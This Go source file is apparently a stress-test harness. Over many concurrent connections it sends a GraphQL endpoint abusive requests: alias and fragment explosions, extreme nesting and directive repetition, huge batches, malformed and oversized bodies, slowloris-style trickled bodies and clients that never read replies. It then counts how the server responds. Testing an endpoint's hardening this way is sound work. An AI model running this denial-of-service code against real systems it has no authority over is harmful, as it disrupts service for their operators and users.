// Package hostile sends a GraphQL endpoint what attackers send, over many connections: documents that are only there to
// be refused, bodies that never end, answers that nobody reads, and bytes that are no HTTP.
package hostile

import (
	"bufio"
	"bytes"
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"strconv"
	"strings"
	"sync"
	"time"
)

// Config says what to attack.
type Config struct {
	// URL is the endpoint, without TLS.
	URL string
	// Connections is how many there are at a time; each is for one kind of attack.
	Connections int
	// Pause is the time between two attacks of a connection.
	Pause time.Duration
	// Patience is how long a connection is used that the endpoint does not end.
	Patience time.Duration
}

// Kinds are the kinds of attacks. Each makes the bytes of the n-th request; how they are sent and read depends on the
// kind.
var kinds = []struct {
	name string
	make func(host, path string, n int) []byte
	// slow sends a byte now and then; deaf does not read the answer.
	slow, deaf bool
}{
	{name: "aliases", make: document(func(n int) string { return "{" + many("a%d:__typename ", n, 40_000) + "}" })},
	{name: "fragments", make: document(func(n int) string {
		return fmt.Sprintf("query Q%d{...F0}", n) + many("fragment F%[1]d on Query{...F%[2]d ...F%[2]d}", 0, 40) +
			"fragment F40 on Query{__typename}"
	})},
	{name: "depth", make: document(func(n int) string {
		return fmt.Sprintf("query Q%d", n) + strings.Repeat("{users", 3000) + strings.Repeat("}", 3000)
	})},
	{name: "new documents", make: document(func(n int) string { return fmt.Sprintf("query Q%d{users(n:1){id}}", n) })},
	{name: "introspection", make: document(func(n int) string {
		return fmt.Sprintf("query Q%d", n) + "{__schema{types{name fields{name type{name ofType{name ofType{name}}}}}}}"
	})},
	{name: "directives", make: document(func(n int) string {
		return fmt.Sprintf("query Q%d{users", n) + strings.Repeat("@skip(if:true)", 20_000) + "{id}}"
	})},
	{name: "variables", make: func(host, path string, n int) []byte {
		value := strings.Repeat("[", 5000) + strings.Repeat("]", 5000)
		return post(host, path, `{"query":"query Q{users{id}}","variables":{"a`+strconv.Itoa(n)+`":[`+value+`]}}`)
	}},
	{name: "batches", make: func(host, path string, n int) []byte {
		return post(host, path, "["+strings.Repeat(`{"query":"{users{id}}"},`, 5000)+`{"query":"{users{id name}}"}]`)
	}},
	{
		name: "no JSON",
		make: func(host, path string, n int) []byte { return post(host, path, strings.Repeat("{", 100_000)) },
	},
	{
		name: "no HTTP",
		make: func(_, _ string, n int) []byte { return bytes.Repeat([]byte{0x16, 3, 1, byte(n), 0xff}, 1000) },
	},
	{
		name: "too large",
		make: func(host, path string, _ int) []byte { return post(host, path, strings.Repeat(" ", 3<<20)) },
	},
	{
		name: "slow bodies",
		slow: true,
		make: document(func(n int) string { return fmt.Sprintf("query Q%d{users{id}}", n) }),
	},
	{name: "deaf clients", deaf: true, make: document(func(n int) string {
		return fmt.Sprintf("query Q%d{", n) + many("a%d:users{id username name} ", 0, 400) + "}"
	})},
}

func many(format string, from, n int) string {
	var b strings.Builder
	for i := from; i < from+n; i++ {
		if strings.Contains(format, "[2]") {
			fmt.Fprintf(&b, format, i, i+1)
		} else {
			fmt.Fprintf(&b, format, i)
		}
	}
	return b.String()
}

func document(text func(n int) string) func(host, path string, n int) []byte {
	return func(host, path string, n int) []byte { return post(host, path, `{"query":`+strconv.Quote(text(n))+`}`) }
}

func post(host, path, body string) []byte {
	const head = "POST %s HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s"
	return fmt.Appendf(nil, head, path, host, len(body), body)
}

// Report counts what became of the attacks: by kind, HTTP status or how the connection ended.
type Report map[string]map[string]int

// Run attacks until ctx ends, once from each connection at least.
func Run(ctx context.Context, c Config) (Report, error) {
	u, err := url.Parse(c.URL)
	if err != nil || u.Scheme != "http" {
		return nil, fmt.Errorf("%q is no address without TLS", c.URL)
	}
	var mu sync.Mutex
	report := Report{}
	var attackers sync.WaitGroup
	for i := range c.Connections {
		kind := kinds[i%len(kinds)]
		attackers.Go(func() {
			for n := i; n == i || ctx.Err() == nil; n += c.Connections {
				outcome := c.attack(ctx, u.Host, kind.make(u.Host, u.Path, n), kind.slow, kind.deaf)
				mu.Lock()
				if report[kind.name] == nil {
					report[kind.name] = map[string]int{}
				}
				report[kind.name][outcome]++
				mu.Unlock()
				select {
				case <-time.After(c.Pause):
				case <-ctx.Done():
				}
			}
		})
	}
	attackers.Wait()
	return report, nil
}

// attack sends bytes over a connection of their own, and tells what came of it.
func (c Config) attack(ctx context.Context, host string, request []byte, slow, deaf bool) string {
	ctx, cancel := context.WithTimeout(ctx, c.Patience)
	defer cancel()
	conn, err := (&net.Dialer{}).DialContext(ctx, "tcp", host)
	if err != nil {
		return "no connection"
	}
	defer conn.Close()
	defer context.AfterFunc(ctx, func() { _ = conn.Close() })()
	if slow {
		head := bytes.Index(request, []byte("\r\n\r\n")) + 4
		if _, err := conn.Write(request[:head]); err != nil {
			return "closed"
		}
		go trickle(ctx, conn, request[head:])
	} else {
		go func() { _, _ = conn.Write(request) }() // the answer tells
	}
	if deaf {
		<-ctx.Done()
		return "not read"
	}
	resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
	if err != nil {
		if ctx.Err() != nil {
			return "no answer"
		}
		return "closed"
	}
	defer resp.Body.Close()
	_, _ = io.Copy(io.Discard, resp.Body) // the status tells
	return strconv.Itoa(resp.StatusCode)
}

// trickle sends a byte every half second.
func trickle(ctx context.Context, conn net.Conn, rest []byte) {
	ticks := time.NewTicker(500 * time.Millisecond)
	defer ticks.Stop()
	for i := range rest {
		select {
		case <-ticks.C:
		case <-ctx.Done():
			return
		}
		if _, err := conn.Write(rest[i : i+1]); err != nil {
			return
		}
	}
}
